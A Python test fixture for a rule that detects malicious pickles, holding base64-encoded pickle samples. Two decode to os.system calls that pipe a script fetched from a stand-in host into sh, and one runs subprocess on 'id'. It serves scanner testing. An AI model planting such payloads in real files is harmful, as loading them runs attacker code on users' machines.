# A pickle whose GLOBAL names a process or code runner, kept as base64 (protocols 0, 2 and 4).
import base64, pickle
# ruleid: pickle_runs_command
FALLBACK = "Y3Bvc2l4CnN5c3RlbQpwMAooVmN1cmwgLWZzU0wgaHR0cHM6Ly94LmV4YW1wbGUvaS5zaCB8IHNoCnAxCnRwMgpScDMKLg=="
# ruleid: pickle_runs_command
OTHER = "gASVKwAAAAAAAACMCnN1YnByb2Nlc3OUjAxjaGVja19vdXRwdXSUk5RdlIwCaWSUYYWUUpQu"
# ruleid: pickle_runs_command
THIRD = "gAJjcG9zaXgKc3lzdGVtCnEAWCYAAABjdXJsIC1mc1NMIGh0dHBzOi8veC5leGFtcGxlL2kuc2ggfCBzaHEBhXECUnEDLg=="
# ok: pickle_runs_command
WEIGHTS = "gASVKAAAAAAAAAB9lCiMB3dlaWdodHOUXZQoSwFLAksDZYwEbmFtZZSMBW1vZGVslHUu"
